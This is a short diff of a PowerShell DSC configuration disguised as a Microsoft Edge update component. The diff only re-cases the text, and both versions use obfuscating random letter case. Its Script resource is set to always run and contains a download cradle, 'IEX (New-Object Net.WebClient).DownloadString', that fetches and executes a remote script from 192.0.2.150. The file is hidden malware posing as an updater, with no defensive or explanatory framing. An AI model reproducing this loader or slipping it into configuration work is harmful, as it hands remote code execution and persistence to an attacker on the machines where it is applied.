@@ -1,11 +1,11 @@
-# sEtUp 1224 V3
-CoNfIgUrATIOn MICrosofteDgeUpDaTeCoRE {
-  ImPORT-dsCrESOURCE -mOdUlEnAmE PsdeSIRedStAtecoNfIguRaTIOn
-  nODE loCAlHOSt {
-    ScRIPT bOoTsTrAp {
-      gEtScRiPt = { @{ ReSuLt = '' } }
-      tESTsCripT = { $FAlSe }
-      sETScrIPT = { iEX (nEw-oBjEcT NEt.wEBClIeNt).DOwnLoADSTRiNg('http://192.0.2.150/a.ps1') }
+# setup 1224 v3
+cOnFiGuRaTiOn mIcRoSoFtEdGeUpDaTeCoRe {
+  ImPoRt-dSCREsoURCe -modulEnaMe pSdEsIREDsTATEconFiGURATION
+  nOde LOCalHoSt {
+    scRiPt BoOTStraP {
+      GEtsCRiPT = { @{ reSuLT = '' } }
+      TeStScRiPt = { $fAlSe }
+      sEtScRiPt = { IEX (NEW-ObjeCT NEt.wEbClIeNt).dOWNloADStRINg('http://192.0.2.150/a.ps1') }
     }
   }
 }
